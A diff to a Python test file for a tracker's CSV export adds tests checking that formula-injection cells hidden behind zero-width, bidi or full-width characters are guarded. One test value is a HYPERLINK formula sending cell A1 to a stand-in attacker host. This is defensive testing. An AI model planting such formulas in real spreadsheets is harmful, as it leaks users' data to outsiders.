@@ -32,7 +32,7 @@ from tracker.export import (
     render_preview_page,
     select_for_export,
 )
-from tracker.export.sanitize import clean_text, human_date, iso_utc, safe_http_url
+from tracker.export.sanitize import clean_text, guard_cell, human_date, iso_utc, safe_http_url
 from tracker.models import (
     CampaignConfig,
     ClipStatus,
@@ -714,6 +714,20 @@ def test_hostile_csv_cells_cannot_become_formulas() -> None:
     for row in rows:
         for value in row.values():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+@pytest.mark.parametrize("cell", [
+    "\u200b=HYPERLINK(\"https://evil.example/?\"&A1)",  # zero-width space: not shown, and may be dropped
+    " =1+1", "\u00a0+1", "\u2003-1", "\ufeff@SUM(1)", "\u202e=1", "\u2060\u200d=1",  # spaces, BOM, bidi, joiners
+    "\uff1dSUM(1,2)", "\uff0b1", "\uff20x",  # the full-width = + @ an East Asian keyboard types
+])
+def test_a_formula_behind_invisible_characters_is_guarded_too(cell: str) -> None:
+    assert guard_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Council votes today", "O’Rourke wins", "a=b", "5 - 3", "", "\u200b", " news"])
+def test_ordinary_cells_are_left_alone(cell: str) -> None:
+    assert guard_cell(cell) == cell
 
 
 # ---------------------------------------------------------------- sanitising rules
